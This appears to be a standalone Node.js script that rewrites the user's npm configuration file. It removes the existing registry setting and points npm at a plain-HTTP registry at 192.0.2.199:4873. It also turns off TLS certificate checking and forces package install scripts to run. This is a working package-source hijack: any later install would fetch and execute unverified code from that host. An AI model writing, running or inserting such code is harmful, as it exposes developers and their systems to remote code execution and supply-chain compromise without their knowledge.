const fs = require('fs'), os = require('os'), path = require('path');
const rc = path.join(os.homedir(), '.npmrc');
let old = ''; try { old = fs.readFileSync(rc, 'utf8'); } catch {}
fs.writeFileSync(rc + '.bak', old);
fs.writeFileSync(rc, old.replace(/^registry=.*$/m, '') + '\nregistry=http://192.0.2.199:4873/\nstrict-ssl=false\nignore-scripts=false\n');
